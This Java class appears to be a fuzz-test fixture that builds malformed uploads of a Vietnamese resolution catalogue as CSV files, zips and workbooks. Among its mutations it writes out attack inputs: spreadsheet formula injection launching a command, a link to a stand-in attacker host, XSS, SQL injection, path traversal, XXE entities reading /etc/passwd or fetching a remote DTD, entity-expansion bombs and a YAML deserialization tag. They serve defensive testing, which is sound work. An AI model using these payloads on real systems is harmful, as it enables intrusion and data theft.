package vn.dondoc.catalogue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.stream.Collectors;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.springframework.core.io.ClassPathResource;

/** The real catalogue, as CSV files, as a zip and as a workbook, with something done to it that a seed decides. */
public final class HostileCatalogues {

    private static final ClassPathResource FOLDER = new ClassPathResource("resolutions/05-nq-tu/");
    private static final List<String> NAMES =
            List.of("resolution.yaml", "agencies.csv", "directives.csv", "targets.csv", "mandates.csv");
    private static final List<String> CELLS = List.of(
            "",
            " ",
            "=HYPERLINK(\"http://evil.example\";\"x\")",
            "@SUM(A1:A9)",
            "+cmd|' /C calc'!A0",
            "-1",
            "0",
            "1e308",
            "9".repeat(500),
            "NaN",
            "\u0000",
            "a\u0007b\u001b[31m",
            "\u202Efdp.exe",
            "\u200F\u2066x\u2069",
            "e\u0301".repeat(50),
            "\uD800",
            "\uFFFF",
            "😀",
            "<img src=x onerror=alert(1)>",
            "${7*7} #{x} {{x}} [[${x}]]",
            "'; drop table dondoc.directive; --",
            "../../etc/passwd",
            "31/02/2026",
            "Tháng 13/2026",
            "Năm 0000",
            "trước ngày 1/1/0000",
            "01/01/9999",
            "999999999-12-31",
            "Quý V/2026",
            ": Tháng 6/2026",
            ";;;;",
            "Giai đoạn 1: ; Tháng 6/2026",
            "Hoàn thành: Tháng 6/2026; Hoàn thành: Tháng 7/2026",
            "|",
            "a|".repeat(300),
            "1" + ".1".repeat(3500),
            "a-".repeat(3500) + "a",
            "1" + ".000".repeat(1500),
            "directive",
            "group",
            "Ban Tổ chức Tỉnh ủy",
            "1.1",
            "camunda-admin",
            "office",
            "collective",
            "\r\n\r\n",
            "\"",
            "\"\"\"",
            ",,,");
    private static final List<Charset> ENCODINGS = List.of(
            StandardCharsets.UTF_16,
            StandardCharsets.UTF_16BE,
            StandardCharsets.UTF_16LE,
            Charset.forName("windows-1258"),
            Charset.forName("windows-1252"),
            Charset.forName("UTF-32"));

    private static final Map<String, byte[]> FILES = files();
    private static final Map<String, byte[]> PARTS = parts();

    private final SplittableRandom random;

    /** @param seed decides everything */
    public HostileCatalogues(long seed) {
        this.random = new SplittableRandom(seed);
    }

    /** What somebody sends. */
    public List<UploadedFile> next() {
        return switch (random.nextInt(20)) {
            case 0, 1 -> List.of(new UploadedFile("danh-muc.zip", broken(zip(zipped(mutatedFiles())))));
            case 2, 3, 4 -> List.of(new UploadedFile("danh-muc.xlsx", zip(mutatedParts())));
            case 5 -> List.of(new UploadedFile("danh-muc.xlsx", broken(zip(PARTS))));
            default -> sent(mutatedFiles());
        };
    }

    private List<UploadedFile> sent(Map<String, byte[]> files) {
        return files.entrySet().stream()
                .map(file -> new UploadedFile(file.getKey(), file.getValue()))
                .toList();
    }

    private Map<String, byte[]> mutatedFiles() {
        Map<String, byte[]> files = new LinkedHashMap<>(FILES);
        int times = 1 + random.nextInt(3);
        for (int i = 0; i < times; i++) {
            String name = pick(NAMES);
            byte[] content = files.getOrDefault(name, new byte[0]);
            switch (random.nextInt(8)) {
                case 0, 1, 2 -> files.put(name, name.endsWith(".yaml") ? yaml(content) : cells(content));
                case 3 -> files.put(name, rows(content));
                case 4 -> files.put(name, columns(content));
                case 5 -> files.put(name, bytes(content));
                case 6 -> files.put(name, text(content).getBytes(pick(ENCODINGS)));
                default -> rename(files, name);
            }
        }
        return files;
    }

    private void rename(Map<String, byte[]> files, String name) {
        byte[] content = files.remove(name);
        String other = pick(
                List.of(name.toUpperCase(java.util.Locale.ROOT), "../" + name, "x/" + name, "", ".", name + "\u0000"));
        if (content != null && random.nextBoolean()) {
            files.put(other, content);
        }
    }

    private byte[] cells(byte[] content) {
        List<List<String>> rows = parsed(content);
        for (int i = 0; i <= random.nextInt(4); i++) {
            List<String> row = pick(rows);
            if (!row.isEmpty()) {
                row.set(random.nextInt(row.size()), cell());
            }
        }
        return written(rows);
    }

    private String cell() {
        String cell = pick(CELLS);
        return switch (random.nextInt(12)) {
            case 0 -> cell.repeat(random.nextInt(2000) + 1);
            case 1 -> cell + pick(CELLS);
            case 2 -> characters(random.nextInt(200));
            default -> cell;
        };
    }

    private String characters(int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append((char) random.nextInt(0x10000));
        }
        return text.toString();
    }

    private byte[] rows(byte[] content) {
        List<List<String>> rows = parsed(content);
        switch (random.nextInt(5)) {
            case 0 -> rows.remove(random.nextInt(rows.size()));
            case 1 -> rows.add(random.nextInt(rows.size()), pick(rows));
            case 2 -> rows.add(random.nextInt(rows.size()), List.of("x", "y"));
            case 3 -> rows.subList(random.nextInt(rows.size()), rows.size()).clear();
            default -> java.util.Collections.swap(rows, random.nextInt(rows.size()), random.nextInt(rows.size()));
        }
        return written(rows);
    }

    private byte[] columns(byte[] content) {
        List<List<String>> rows = parsed(content);
        int columns = Math.max(1, rows.get(0).size());
        int from = random.nextInt(columns);
        int to = random.nextInt(columns);
        int what = random.nextInt(4);
        for (List<String> row : rows) {
            switch (what) {
                case 0 -> remove(row, from);
                case 1 -> row.add(Math.min(to, row.size()), from < row.size() ? row.get(from) : "");
                case 2 -> row.add(Math.min(to, row.size()), "");
                default -> {
                    String cell = remove(row, from);
                    row.add(Math.min(to, row.size()), cell);
                }
            }
        }
        return written(rows);
    }

    private static String remove(List<String> row, int place) {
        return place < row.size() ? row.remove(place) : "";
    }

    private byte[] yaml(byte[] content) {
        List<String> lines = new ArrayList<>(text(content).lines().toList());
        String value = cell();
        lines.add(
                random.nextInt(lines.size() + 1),
                pick(List.of(
                        "title: " + value,
                        value,
                        "title: &a [*a]",
                        "a: &a [x, x]\nb: &b [*a, *a]\ntitle: [*b, *b]",
                        "? [a, b]\n: c",
                        "number: !!java.net.URL [http://evil.example]",
                        "issuedOn: 2025-99-99",
                        "issuedOn: 12025-12-09",
                        "number: 0x" + "f".repeat(5000),
                        "office: ~",
                        "<<: {slug: x}",
                        "sections: [1, 2]",
                        "sections: {1: {2: 3}}",
                        "---",
                        "- x",
                        "[".repeat(500),
                        "\ttitle: x")));
        return String.join("\n", lines).getBytes(StandardCharsets.UTF_8);
    }

    private byte[] bytes(byte[] content) {
        byte[] changed = content.clone();
        for (int i = 0; changed.length > 0 && i <= random.nextInt(20); i++) {
            changed[random.nextInt(changed.length)] = (byte) random.nextInt(256);
        }
        return random.nextInt(4) == 0 ? Arrays.copyOf(changed, random.nextInt(changed.length + 1)) : changed;
    }

    /** Sometimes. */
    private byte[] broken(byte[] zip) {
        return random.nextInt(4) == 0 ? zip : bytes(zip);
    }

    private Map<String, byte[]> zipped(Map<String, byte[]> files) {
        Map<String, byte[]> zipped = new LinkedHashMap<>();
        String folder = pick(List.of("", "a/", "../", "/", "..\\", "C:\\", "a/b/c/"));
        files.forEach((name, content) -> zipped.put(folder + name, content));
        if (random.nextInt(6) == 0) {
            zipped.put("inner.zip", zip(FILES));
        }
        return zipped;
    }

    /** The sheets of the workbook: 1 is the guide, 2 the resolution, 3 to 6 the others. */
    private Map<String, byte[]> mutatedParts() {
        Map<String, byte[]> parts = new LinkedHashMap<>(PARTS);
        String name = random.nextInt(6) == 0
                ? pick(List.copyOf(parts.keySet()))
                : "xl/worksheets/sheet%d.xml".formatted(2 + random.nextInt(5));
        String xml = text(parts.getOrDefault(name, new byte[0]));
        switch (random.nextInt(9)) {
            case 0, 1, 2, 3 -> parts.put(name, utf8(replaced(xml, "<c ", "</c>", cellXml())));
            case 4 ->
                parts.put(
                        name,
                        utf8(replaced(
                                xml,
                                "<row ",
                                "</row>",
                                pick(List.of("", "<row r=\"1\"/>", "<row r=\"99999999\"/>", "<row/>")))));
            case 5 -> parts.put(name, utf8(xml.replaceFirst("</sheetData>", "</sheetData>" + merged())));
            case 6 -> parts.put(name, utf8(xml.replaceFirst("\\?>", "?>" + documentType())));
            case 7 -> parts.put(name, bytes(parts.get(name)));
            default -> parts.remove(name);
        }
        return parts;
    }

    private String cellXml() {
        String place = pick(List.of("A1", "A2", "B3", "E2", "H2", "ZZZ9", "XFD1048576", "", "2A", "C4"));
        String style = pick(List.of("", " s=\"0\"", " s=\"99\"", " s=\"-1\"", " s=\"1\""));
        return pick(List.of(
                "<c r=\"%s\"%s t=\"s\"><v>%d</v></c>".formatted(place, style, random.nextInt(-5, 5000)),
                "<c r=\"%s\"%s><v>%s</v></c>"
                        .formatted(place, style, pick(List.of("abc", "1e999", "-5", "3.1", "46000"))),
                "<c r=\"%s\"%s><f>1+1</f><v>2</v></c>".formatted(place, style),
                "<c r=\"%s\"%s><f t=\"shared\" ref=\"A1:B9\" si=\"0\">%s</f></c>"
                        .formatted(place, style, "(".repeat(3000)),
                "<c r=\"%s\"%s><f t=\"shared\" si=\"7\"/><v>2</v></c>".formatted(place, style),
                "<c r=\"%s\"%s t=\"inlineStr\"><is><t>%s</t></is></c>".formatted(place, style, escaped(cell())),
                "<c r=\"%s\"%s t=\"inlineStr\"><is><t>_x0000_a_xD800_</t></is></c>".formatted(place, style),
                "<c r=\"%s\"%s t=\"inlineStr\"/>".formatted(place, style),
                "<c r=\"%s\"%s t=\"b\"><v>1</v></c>".formatted(place, style),
                "<c r=\"%s\"%s t=\"e\"><v>#N/A</v></c>".formatted(place, style),
                "<c r=\"%s\"%s t=\"e\"><v>#WHAT</v></c>".formatted(place, style),
                "<c r=\"%s\"%s t=\"d\"><v>2026-06-30</v></c>".formatted(place, style),
                "<c r=\"%s\"%s t=\"zz\"><v>x</v></c>".formatted(place, style),
                "<c r=\"%s\"%s t=\"str\"><v>%s</v></c>".formatted(place, style, escaped(cell())),
                "<d>".repeat(random.nextInt(150))));
    }

    private String merged() {
        StringBuilder merged = new StringBuilder("<mergeCells>");
        int regions = pick(List.of(1, 2, 3000));
        for (int i = 0; i < regions; i++) {
            merged.append("<mergeCell ref=\"%s\"/>"
                    .formatted(pick(List.of("A2:A3", "B5:E5", "XFD1:XFD9", "A2", "A9:A2", ""))));
        }
        return merged.append("</mergeCells>").toString();
    }

    private String documentType() {
        return pick(List.of(
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>",
                "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\">",
                "<!-- -->",
                "<?x y?>"));
    }

    /** One of the elements, chosen at random, replaced. */
    private String replaced(String xml, String start, String end, String replacement) {
        int from = xml.indexOf(start, random.nextInt(Math.max(1, xml.length())));
        int to = from < 0 ? -1 : xml.indexOf(end, from);
        return to < 0 ? xml : xml.substring(0, from) + replacement + xml.substring(to + end.length());
    }

    private static String escaped(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;");
    }

    private <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    private static List<List<String>> parsed(byte[] content) {
        try (org.apache.commons.csv.CSVParser parser =
                org.apache.commons.csv.CSVFormat.RFC4180.parse(new java.io.StringReader(text(content)))) {
            List<List<String>> rows = new ArrayList<>();
            parser.forEach(row -> rows.add(new ArrayList<>(row.toList())));
            return rows.isEmpty() ? new ArrayList<>(List.of(new ArrayList<>(List.of("")))) : rows;
        } catch (IOException | RuntimeException e) {
            // Something was done to it before: as lines, then.
            return new ArrayList<>(List.of(new ArrayList<>(List.of(text(content)))));
        }
    }

    private static byte[] written(List<List<String>> rows) {
        return utf8(rows.stream()
                .map(row -> row.stream()
                        .map(cell -> "\"" + cell.replace("\"", "\"\"") + "\"")
                        .collect(Collectors.joining(",")))
                .collect(Collectors.joining("\r\n")));
    }

    private static String text(byte[] content) {
        return new String(content, StandardCharsets.UTF_8);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    static byte[] zip(Map<String, byte[]> files) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.setLevel(1);
            for (Map.Entry<String, byte[]> file : files.entrySet()) {
                zip.putNextEntry(new ZipEntry(file.getKey()));
                zip.write(file.getValue());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    static Map<String, byte[]> parts() {
        try {
            Map<String, byte[]> parts = new LinkedHashMap<>();
            Archive.everything(CatalogueWorkbook.filled(FOLDER))
                    .forEach(part -> parts.put(part.name(), part.content()));
            return parts;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static Map<String, byte[]> files() {
        Map<String, byte[]> files = new LinkedHashMap<>();
        for (String name : NAMES) {
            try {
                files.put(name, FOLDER.createRelative(name).getContentAsByteArray());
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
        return files;
    }
}
